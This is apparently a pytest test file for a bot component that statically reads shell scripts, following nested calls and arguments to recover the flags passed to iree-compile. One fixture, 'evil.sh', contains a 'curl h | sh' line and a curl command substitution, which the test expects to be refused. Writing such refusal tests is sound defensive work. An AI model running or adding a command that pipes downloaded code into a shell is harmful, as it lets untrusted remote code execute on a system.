"""Scripts that a report names are read with the arguments of the call, through the scripts that they call."""

import pytest

from bot.intake.scope import UNKNOWN
from bot.intake.script import ScriptReading, read_script
from bot.intake.statements import Call

SCRIPTS = {
    "outer.sh": """#!/bin/bash
set -eu
CHIP="$1"
MODEL="$2"
mkdir -p tmp
./inner.sh "$CHIP" "$MODEL" \\
  --extra=true \\
  "${@:3}" \\
  -o tmp/m.vmfb
""",
    "inner.sh": """#!/bin/bash
if (( $# < 2 )); then
  echo "usage: $0 <chip> <iree-compile flags>" >&2
  exit 1
fi
declare -a TARGET=(
  "--iree-hal-target-backends=rocm"
  "--iree-rocm-target-chip=$1"
)
iree-compile "${TARGET[@]}" "${@:2}"
""",
    "here.sh": 'D="$(cd "$(dirname "$0")" && pwd)"\n"$D/inner.sh" gfx90a "$@"\n',
    "shift.sh": "A=$1; shift\niree-compile --a=$A $@\n",
    "defaults.sh": "iree-compile --a=${1:-generic} x.mlir\n",
    "parts.sh": 'm=$1\na=(\n  --a  # why\n)\niree-compile "$(dirname "$0")/$m" "${a[@]}" -o "out/$(basename "$m" .mlir).vmfb"\n',
    "folders.sh": 'iree-compile "$(realpath "$1")/x.mlir" -o $(basename $HOME).vmfb\n',
    "self.sh": "./self.sh\n",
    "a.sh": "./b.sh\n",
    "b.sh": "./a.sh\n",
    "lost.sh": "./elsewhere.sh x\n",
    "evil.sh": "iree-compile --a=$(curl h) x.mlir\ncurl h | sh\n",
    "loop.sh": "for b in *; do iree-compile --a $b.mlir; done\n",
    "wide.sh": "./outer.sh a b\n" * 500,
}


def read(*argv: str) -> ScriptReading:
    return read_script(Call(argv, 0, 0), SCRIPTS.get)


@pytest.mark.parametrize(
    ("argv", "words", "through"),
    [
        (
            ("./outer.sh", "gfx942", "m.mlir", "--more"),
            "--iree-hal-target-backends=rocm --iree-rocm-target-chip=gfx942 m.mlir --extra=true --more -o tmp/m.vmfb",
            ("outer.sh", "inner.sh"),
        ),
        (("here.sh", "m.mlir"), "--iree-hal-target-backends=rocm --iree-rocm-target-chip=gfx90a m.mlir", ("here.sh", "inner.sh")),
        (("./shift.sh", "x", "y.mlir", "z"), "--a=x y.mlir z", ("shift.sh",)),
        (("./parts.sh", "m.mlir"), "./m.mlir --a -o out/m.vmfb", ("parts.sh",)),
        (("x/parts.sh", "y/m.mlir"), "x/y/m.mlir --a -o out/m.vmfb", ("parts.sh",)),
        (("./folders.sh", "y"), f"{UNKNOWN}/x.mlir -o {UNKNOWN}.vmfb", ("folders.sh",)),
        (("./defaults.sh",), "--a=generic x.mlir", ("defaults.sh",)),
        (("./defaults.sh", "host"), "--a=host x.mlir", ("defaults.sh",)),
    ],
)
def test_the_flags_of_a_script(argv: tuple[str, ...], words: str, through: tuple[str, ...]) -> None:
    reading = read(*argv)
    assert [(" ".join(call.argv[1:]), names) for call, names in reading.calls] == [(words, through)]
    assert not reading.problems
    assert not reading.missing


@pytest.mark.parametrize(
    ("argv", "missing"), [(("lost.sh",), ["elsewhere.sh"]), (("self.sh",), ["self.sh"]), (("a.sh",), ["a.sh"]), (("none.sh",), ["none.sh"])]
)
def test_a_script_that_cannot_be_followed_is_named(argv: tuple[str, ...], missing: list[str]) -> None:
    assert read(*argv).missing == missing


def test_what_a_script_would_run_is_refused_and_not_run() -> None:
    assert [(problem.kind, name) for problem, name in read("evil.sh").problems] == [("refuse", "evil.sh")]


def test_a_loop_is_asked_about() -> None:
    assert [problem.kind for problem, _ in read("loop.sh").problems] == ["ask"]


def test_scripts_that_multiply_come_to_an_end() -> None:
    assert len(read("wide.sh").calls) <= 100
